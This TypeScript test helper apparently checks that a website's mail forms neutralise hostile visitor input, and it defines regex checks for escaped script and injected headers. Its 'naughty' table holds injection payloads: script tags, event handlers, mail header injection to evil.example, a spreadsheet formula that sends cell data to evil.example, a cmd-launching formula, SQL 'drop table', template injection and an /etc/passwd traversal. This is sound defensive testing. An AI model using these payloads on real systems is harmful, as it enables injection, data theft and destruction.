import { plainAddress } from "../core/mail/address.ts";
import type { startMailServer } from "./mail-server.ts";

type Received = Awaited<ReturnType<typeof startMailServer>>["letters"][number];

/** The kinds of the Big List of Naughty Strings. None may run, break out, or bring the site down. */
export const naughty: Record<string, string> = {
  html: `"'><x-naughty onclick="naughty()"></textarea></script><script>naughty()</script><!--`,
  attribute: `" autofocus onfocus="naughty()" x="`,
  entity: "&lt;x-naughty&gt; &amp;amp; &#60;x-naughty&#62;",
  "script in an address": "javascript:naughty()",
  "control characters":
    "a\u0001\u0002\u0007\u0008\u000B\u000C\u000E\u001B[2J\u001F\u007F\u0085\u009Bz",
  NUL: "before\u0000after",
  "line ends": "one\rtwo\nthree\r\nfour\u2028five\u2029six",
  emoji: "👩🏽‍⚕️👨‍👩‍👧‍👦🇨🇦 🏳️‍🌈",
  "right to left": "مرحبا \u202Ecod.exe\u202C שלום \u2067abc\u2069",
  "zero width": "a\u200B\u200C\u200D\u2060\uFEFFb",
  "only zero width": "\u200B\u200D",
  zalgo: "T̸̨̛̗̫̈́̀o̴͚͝n̵̰̈y̶̢̽ ﷽ Ω≈ç√∫˜µ ",
  "five thousand characters": "x".repeat(5_000),
  "header injection": "Ada\r\nBcc: victim@evil.example\r\n\r\n<x-naughty>",
  "address list": "ada@example.com, victim@evil.example",
  "address with a header": "ada@example.com\nCc: victim@evil.example",
  "address in a name": '"Ada" <victim@evil.example>',
  formula: `=HYPERLINK("http://evil.example?"&A1,"open")`,
  "formula by plus": "+1+cmd|' /C calc'!A0",
  "formula by minus": "-1+1",
  "formula by at": "@SUM(1+1)",
  "formula after a tab": "\t=1+1",
  "formula after a line end": "\r\n=1+1",
  "formula after nothing visible": "\u0000\u200B =1+1",
  "formula in full width": "＝1+1",
  sql: "'; drop table submissions; --",
  template: "{{phone}} ${7*7} #{7*7} <%= 7*7 %> %s%n%d",
  path: "../../../../etc/passwd%00",
  "object keys": "__proto__",
  numbers: "NaN",
};

/** What in a page or a letter would run, or stand there as an element, that a visitor typed. */
export function harmIn(page: string): string | undefined {
  const harms = [
    /<x-naughty/i,
    /<script[^>]*>naughty/i,
    /[^\\]" autofocus onfocus="naughty/i,
    /(href|src|action)="?javascript:/i,
  ];
  return harms.map((harm) => harm.exec(page)?.[0]).find((found) => found !== undefined);
}

const usualHeaders = ["from", "to", "reply-to", "subject", "message-id", "date", "mime-version"];

/** What in a letter a visitor has changed that is not theirs to change: its recipient, its headers, or what runs. */
export function problemWith(letter: Received, desk: string): string | undefined {
  const { recipients, headerLines, html, raw, subject, replyTo } = letter;
  const keys = headerLines.map(({ key }) => key);
  const unusual = keys.filter(
    (key, place) =>
      keys.indexOf(key) !== place ||
      !(usualHeaders.includes(key) || /^(content-|auto-submitted|list-unsubscribe|x-)/.test(key)),
  );
  const [recipient = ""] = recipients;
  // A visitor who asks for the newsletter gets a letter; everything else goes to the front desk.
  const expected =
    recipient === desk ||
    (/newsletter/i.test(subject ?? "") && plainAddress(recipient) === recipient);
  if (recipients.length !== 1 || !expected) return `recipients ${recipients.join()}`;
  if (unusual.length > 0) return `headers ${unusual.join()}`;
  if (/naughty|evil\.example|^(bcc|cc):/im.test(raw.split("\r\n\r\n")[0] ?? ""))
    return "a visitor's words in a header";
  if (replyTo && !plainAddress(replyTo.value[0]?.address ?? "")) return `reply-to ${replyTo.text}`;
  return harmIn(html || "");
}
